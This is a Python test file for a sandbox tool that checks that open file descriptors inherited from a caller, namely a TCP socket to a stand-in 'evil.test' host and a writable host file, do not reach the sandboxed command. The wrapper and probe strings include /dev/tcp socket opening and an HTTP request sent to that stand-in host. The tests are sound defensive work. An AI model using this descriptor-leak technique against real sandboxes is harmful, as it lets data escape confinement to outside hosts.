"""The sandbox boundary (issue 14): nothing the caller holds reaches the command unless passed on
purpose. Each test tries the attack against the real binary and has a control showing the probe
works without awf."""

from __future__ import annotations

import shlex

import vnet as V
from conftest import reached

# Opens descriptors the way a careless caller leaves them: fd 7, a TCP connection to the
# "evil" test host; fd 9, a host file opened for writing. Then runs the rest of its arguments.
WRAPPER = ("exec 7<>/dev/tcp/{ip}/80; exec 9>>{file}; exec \"$@\"")

# Uses fd 7 and fd 9 if it has them; prints what it found.
PROBE = (
    "if {{ printf 'GET /inherited-{nonce} HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n' >&7; }} "
    "2>/dev/null; then echo fd7=open; cat <&7 >/dev/null; else echo fd7=closed; fi; "
    "if {{ echo leaked-{nonce} >&9; }} 2>/dev/null; then echo fd9=open; else echo fd9=closed; fi; "
    "echo fds=$(ls /proc/self/fd | tr '\\n' ' ')"
)


def _wrapped(vnet, file: str) -> list[str]:
    return ["bash", "-c", WRAPPER.format(ip=V.EVIL4, file=shlex.quote(file)), "wrapper"]


def test_inherited_descriptors_do_not_reach_the_command(awf, vnet, nonce):
    leak_file = f"{vnet.scratch_dir}/leak-{nonce}.txt"
    probe = PROBE.format(nonce=nonce)

    # Control: without awf, the probe uses both descriptors.
    mark = vnet.mark()
    control = vnet.host_run([*_wrapped(vnet, leak_file), "bash", "-c", probe], timeout=30)
    assert "fd7=open" in control.stdout and "fd9=open" in control.stdout, control
    assert reached(vnet, mark, host="evil.test"), "control request did not reach evil.test"

    mark = vnet.mark()
    open(leak_file, "w").close()
    r = awf(["-d", "allowed.test"], ["bash", "-c", probe], prefix=_wrapped(vnet, leak_file))
    assert r.rc == 0, r.describe()
    assert "fd7=closed" in r.stdout and "fd9=closed" in r.stdout, r.describe()
    # ls's own listing: stdin, stdout, stderr and the directory it reads, nothing else.
    fds = r.stdout.split("fds=", 1)[1].split()
    assert sorted(int(fd) for fd in fds) == [0, 1, 2, 3], r.describe()
    assert not [rec for rec in vnet.origin_requests(mark) if nonce in str(rec.get("path"))], \
        "the inherited socket reached evil.test"
    assert f"leaked-{nonce}" not in open(leak_file).read()
